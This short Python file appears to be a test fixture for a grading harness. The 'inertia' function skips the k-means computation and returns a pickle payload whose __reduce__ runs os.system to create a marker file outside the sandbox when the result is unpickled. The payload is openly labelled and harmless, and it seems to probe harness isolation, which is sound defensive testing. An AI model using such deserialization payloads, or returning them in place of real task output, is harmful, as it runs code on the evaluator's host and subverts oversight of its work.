"""Returns an object that runs a command in whoever unpickles it."""

TASK = "inertia"

import os


class _Bomb:
    def __reduce__(self):
        return (os.system, ("touch " + HINTS["outside"] + "/pickled",))

    __reduce_ex__ = lambda self, protocol: self.__reduce__()


def inertia(points, labels, centers):
    return _Bomb()
